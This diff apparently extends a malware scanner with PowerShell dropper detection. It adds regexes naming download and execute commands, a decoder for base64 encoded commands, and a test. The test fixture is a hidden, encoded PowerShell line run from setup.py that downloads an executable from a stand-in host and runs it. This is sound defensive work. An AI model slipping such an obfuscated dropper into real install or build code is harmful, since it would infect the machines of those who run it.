@@ -23,6 +23,8 @@ regexes! {
     RE_WALLET_HOOK = r"window\.ethereum|ethereum\.request\s*\(|eth_sendTransaction|window\.solana|solana\.signTransaction|XMLHttpRequest\.prototype\.(?:open|send)\s*=|(?:window|globalThis|self|global)\.fetch\s*=[^=]|(?:^|[;{}\s])fetch\s*=\s*(?:async\s+)?function";
     RE_CLIPBOARD = r"navigator\.clipboard|clipboardData|execCommand\(\s*['\x22](?:copy|paste)|\bpyperclip\b|\bclipboardy\b|\bpbcopy\b|\bpbpaste\b|\bxclip\b|\bxsel\b|Get-Clipboard|Set-Clipboard|win32clipboard|clipboard_get\(|clipboard_append\(|OpenClipboard|GetClipboardData|SetClipboardData";
     RE_HEX_ESCAPE = r"\\x[0-9a-fA-F]{2}";
+    RE_PS_DOWNLOAD = r"(?i)\b(?:invoke-webrequest|iwr|invoke-restmethod|irm|downloadfile|downloadstring|downloaddata|net\.webclient|start-bitstransfer|curl(?:\.exe)?|wget|bitsadmin)\b";
+    RE_PS_RUN = r"(?i)\b(?:invoke-expression|iex|start-process|saps|invoke-item)\b|&\s*['\x22]?[^;|]*\.(?:exe|ps1|bat|cmd|vbs)\b|\.(?:exe|scr)['\x22]?\s*(?:;|$)";
     RE_ENCODED_SHELL = r"(?i)\bpowershell(?:\.exe)?\b[^\n]{0,300}?\s[-/](?:e|ec|en|enc|enco|encod|encode|encoded|encodedc|encodedcommand)\s+['\x22]?[A-Za-z0-9+/]{20,}={0,2}";
     RE_HIDDEN_SHELL = r"(?i)\bpowershell(?:\.exe)?\b[^\n]{0,300}?\s[-/](?:w|win|window|windowstyle)\s+['\x22]?hidden\b";
 }
@@ -319,15 +321,71 @@ fn encoded_shell(rel: &str, src: &str, lines: &Lines, out: &mut Vec<Signal>) {
     let Some(m) = [enc, hid].into_iter().flatten().min_by_key(|m| m.start()) else {
         return;
     };
+    // The encoded command itself (base64 of UTF-16LE): a hidden one that downloads and
+    // runs something is a dropper, whatever the file around it looks like.
+    let decoded = enc
+        .map(|e| decode_powershell(src, e.end()))
+        .unwrap_or_default();
+    let dropper = !decoded.is_empty()
+        && RE_PS_DOWNLOAD
+            .as_ref()
+            .is_some_and(|r| r.is_match(&decoded))
+        && RE_PS_RUN.as_ref().is_some_and(|r| r.is_match(&decoded));
+    let (what, n) = if dropper {
+        (
+            format!("{what}, which downloads and runs a program"),
+            n + 1.0,
+        )
+    } else {
+        (what.to_string(), n)
+    };
+    let shown = if decoded.is_empty() {
+        String::new()
+    } else {
+        format!(" (decoded: {})", clip(&decoded, 160))
+    };
     out.push(
         Signal::new(
             ids::ENCODED_SHELL_COMMAND,
             rel,
             Some(lines.line_of(m.start())),
-            format!("{what}: {}", clip(m.as_str(), 120)),
+            format!("{what}: {}{shown}", clip(m.as_str(), 120)),
         )
         .with_value(n),
     );
+}
+
+/// The text of `-EncodedCommand <base64>` whose match ends at `end` (the regex stops
+/// after 20 base64 characters; the rest of the run follows): UTF-16LE, as PowerShell
+/// takes it. Empty when it does not decode.
+fn decode_powershell(src: &str, end: usize) -> String {
+    use base64::Engine;
+    let head = &src[..end];
+    let start = head
+        .rfind(|c: char| !(c.is_ascii_alphanumeric() || c == '+' || c == '/' || c == '='))
+        .map_or(0, |i| i + 1);
+    let tail = &src[end..];
+    let more = tail
+        .find(|c: char| !(c.is_ascii_alphanumeric() || c == '+' || c == '/' || c == '='))
+        .unwrap_or(tail.len());
+    let b64 = src[start..end + more.min(64 * 1024)].trim_end_matches('=');
+    let Ok(bytes) = base64::engine::general_purpose::STANDARD_NO_PAD.decode(b64) else {
+        return String::new();
+    };
+    let units: Vec<u16> = bytes
+        .chunks_exact(2)
+        .map(|c| u16::from_le_bytes([c[0], c[1]]))
+        .collect();
+    let text = String::from_utf16_lossy(&units);
+    if text
+        .chars()
+        .filter(|c| c.is_control() && !c.is_whitespace())
+        .count()
+        > text.len() / 10
+    {
+        return String::new();
+    }
+    text
 }
 
 /// A run of bytes found by [`runs`]: what a regex match gave before (the regexes
@@ -1031,6 +1089,33 @@ navigator.clipboard.writeText(x);"#;
             " ".repeat(300)
         );
         assert!(ids_of("p.js", &padded).contains(&ids::WHITESPACE_PADDING.to_string()));
+    }
+
+    #[test]
+    fn encoded_powershell_that_downloads_and_runs_is_a_dropper() {
+        let src = "subprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand cABvAHcAZQByAHMAaABlAGwAbAAgAEkAbgB2AG8AawBlAC0AVwBlAGIAUgBlAHEAdQBlAHMAdAAgAC0AVQByAGkAIAAiAGgAdAB0AHAAcwA6AC8ALwBkAGwALgBlAHgAYQBtAHAAbABlAC4AYwBvAG0ALwBzAC8AeAAvAFUAcABkAGEAdABlAC4AZQB4AGUAPwBkAGwAPQAwACIAIAAtAE8AdQB0AEYAaQBsAGUAIAAiAH4ALwBXAGkAbgBkAG8AdwBzAEMAYQBjAGgAZQAuAGUAeABlACIAOwAgAEkAbgB2AG8AawBlAC0ARQB4AHAAcgBlAHMAcwBpAG8AbgAgACIAfgAvAFcAaQBuAGQAbwB3AHMAQwBhAGMAaABlAC4AZQB4AGUAIgA=', shell=False)\n";
+        let mut out = Vec::new();
+        text_signals("setup.py", src, &mut out);
+        let s = out
+            .iter()
+            .find(|s| s.signal == ids::ENCODED_SHELL_COMMAND)
+            .expect("signal");
+        assert_eq!(s.value, Some(3.0), "{}", s.detail);
+        assert!(
+            s.detail.contains("decoded: powershell Invoke-WebRequest"),
+            "{}",
+            s.detail
+        );
+        // Hidden and encoded, but it only prints: no dropper.
+        let src = "os.system('powershell -w hidden -enc VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIAAiAGgAZQBsAGwAbwAgAGYAcgBvAG0AIABhACAAYgB1AGkAbABkACAAcwB0AGUAcAAiAA==')\n";
+        let mut out = Vec::new();
+        text_signals("build.py", src, &mut out);
+        let s = out
+            .iter()
+            .find(|s| s.signal == ids::ENCODED_SHELL_COMMAND)
+            .expect("signal");
+        assert_eq!(s.value, Some(2.0), "{}", s.detail);
+        assert!(s.detail.contains("hello from a build step"), "{}", s.detail);
     }
 
     #[test]
